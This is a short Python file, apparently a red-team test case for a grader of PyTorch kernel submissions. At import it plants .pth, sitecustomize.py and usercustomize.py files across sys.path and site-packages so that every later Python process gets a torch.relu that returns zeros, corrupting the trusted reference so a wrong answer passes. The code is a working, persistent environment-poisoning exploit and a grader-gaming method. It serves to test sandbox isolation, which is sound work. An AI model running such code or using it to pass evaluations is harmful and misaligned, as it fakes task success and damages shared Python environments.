"""Exploit 28 (environment injection): plant start-up files wherever a later Python process reads
them (every sys.path directory, site-packages, the user site, sitecustomize), each making
torch.relu return zeros. Then a zeros candidate would match the (patched) trusted reference.
The candidate itself computes ReLU honestly. Isolation must stop every write."""
import os
import sys
import sysconfig

import torch
import torch.nn as nn

PAYLOAD = "import torch; torch.relu = lambda x, *a, **k: x * 0  # kc-redteam-planted\n"


def _targets():
    dirs = set(sys.path) | {sysconfig.get_paths()["purelib"], sysconfig.get_paths()["platlib"],
                            os.path.dirname(os.path.dirname(torch.__file__)),
                            os.path.expanduser("~/.local/lib/python%d.%d/site-packages" % sys.version_info[:2])}
    return [d for d in dirs if d and os.path.isabs(d)]


PLANTED = []
for d in _targets():
    for name, text in (("kc_redteam_planted.pth", PAYLOAD), ("sitecustomize.py", PAYLOAD),
                       ("usercustomize.py", PAYLOAD)):
        try:
            os.makedirs(d, exist_ok=True)
            with open(os.path.join(d, name), "x") as f:
                f.write(text)
            PLANTED.append(os.path.join(d, name))
        except OSError:
            pass


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
